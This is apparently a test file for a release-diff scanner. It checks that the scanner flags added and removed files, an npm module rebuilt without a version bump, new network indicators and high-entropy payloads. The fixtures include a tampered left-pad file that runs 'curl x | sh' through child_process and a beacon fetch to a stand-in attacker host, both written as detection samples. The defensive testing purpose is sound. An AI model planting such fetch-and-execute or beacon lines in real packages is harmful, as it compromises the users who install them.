/**
 * Layer 1 alone, on releases of text files: what a clean minor release reports (nothing
 * above low), and each kind of change the diff names: files added, removed and changed, an
 * npm module rebuilt without a version change, a new network indicator, an entropy jump.
 */
import assert from "node:assert/strict";
import path from "node:path";
import { describe, it } from "node:test";
import { tempDir } from "@bulwark/testkit";
import { type Finding, scanRelease } from "../src/index.js";
import { type Files, noise, writeFolder, writeTarGz } from "./release-builders.js";

const V1: Files = {
  "package.json": '{"name":"app","version":"1.4.0"}',
  "main.js": 'fetch("https://api.vendor.com/v1/check")\n',
  "node_modules/left-pad/package.json": '{"name":"left-pad","version":"1.3.0"}',
  "node_modules/left-pad/index.js": "module.exports = (s, n) => s.padStart(n);\n",
  "README.md": "# app\n",
};

async function scanPair(t: Parameters<typeof tempDir>[0], previous: Files, next: Files) {
  const dir = tempDir(t);
  const old = writeTarGz(path.join(dir, "app-old.tar.gz"), previous);
  const neu = writeTarGz(path.join(dir, "app-new.tar.gz"), next);
  return (await scanRelease(neu, { previous: old })).report;
}

function ids(findings: readonly Finding[]): string[] {
  return findings.map((f) => `${f.id} ${f.file}`);
}

describe("the release diff (layer 1)", () => {
  it("a clean minor release reports nothing above low, and its verdict is clean", async (t) => {
    const report = await scanPair(t, V1, {
      ...V1,
      "package.json": '{"name":"app","version":"1.4.1"}',
      "main.js": 'fetch("https://api.vendor.com/v1/check"); // retry once\n',
      "README.md": "# app\n\nNow with retries.\n",
    });
    assert.equal(report.verdict, "clean");
    assert.deepEqual(
      report.findings.filter((f) => f.severity !== "info" && f.severity !== "low"),
      [],
    );
    assert.deepEqual(ids(report.findings).sort(), [
      "diff.file.changed README.md",
      "diff.file.changed main.js",
      "diff.file.changed package.json",
      "diff.npm.version-changed package.json",
    ]);
  });

  it("names files added and removed", async (t) => {
    const { "README.md": _, ...withoutReadme } = V1;
    const report = await scanPair(t, V1, { ...withoutReadme, "CHANGELOG.md": "1.4.1\n" });
    assert.ok(ids(report.findings).includes("diff.file.added CHANGELOG.md"));
    assert.ok(ids(report.findings).includes("diff.file.removed README.md"));
  });

  it("catches an npm module whose files changed while its version did not (a silent rebuild)", async (t) => {
    const report = await scanPair(t, V1, {
      ...V1,
      "node_modules/left-pad/index.js": 'require("child_process").exec("curl x | sh");\n',
    });
    const finding = report.findings.find((f) => f.id === "diff.npm.changed-version-unchanged");
    assert.equal(finding?.severity, "medium");
    assert.equal(finding?.file, "node_modules/left-pad/package.json");
    assert.deepEqual(finding?.evidence.changedFiles, ["node_modules/left-pad/index.js"]);
    assert.equal(finding?.evidence.version, "1.3.0");
    assert.equal(report.verdict, "review");
  });

  it("names a URL, domain and IP that appear nowhere in the previous release", async (t) => {
    const report = await scanPair(t, V1, {
      ...V1,
      "node_modules/left-pad/package.json": '{"name":"left-pad","version":"1.3.1"}',
      "node_modules/left-pad/index.js": 'fetch("https://telemetry.attacker-cdn.net/beacon?id=1"); // 45.33.2.1\n',
    });
    const network = report.findings.filter((f) => f.id.startsWith("diff.network."));
    assert.deepEqual(network.map((f) => Object.values(f.evidence)[0]).sort(), [
      "45.33.2.1",
      "https://telemetry.attacker-cdn.net/beacon?id=1",
      "telemetry.attacker-cdn.net",
    ]);
    // api.vendor.com was in the previous release: not new.
    assert.ok(!network.some((f) => JSON.stringify(f.evidence).includes("api.vendor.com")));
  });

  it("catches a file that became high-entropy (an encrypted payload in place of a script)", async (t) => {
    const report = await scanPair(t, V1, {
      ...V1,
      "package.json": '{"name":"app","version":"1.4.1"}',
      "main.js": noise(64 * 1024),
    });
    const jump = report.findings.find((f) => f.id === "diff.entropy.jump");
    assert.equal(jump?.file, "main.js");
    assert.ok((jump?.evidence.entropy as number) > 7.9);
  });

  it("compares folders as well as archives", async (t) => {
    const dir = tempDir(t);
    const old = writeFolder(path.join(dir, "old"), V1);
    const neu = writeFolder(path.join(dir, "new"), { ...V1, "extra.txt": "x" });
    const { report } = await scanRelease(neu, { previous: old });
    assert.deepEqual(ids(report.findings), ["diff.file.added extra.txt"]);
    assert.equal(report.release.sha256, undefined);
  });
});
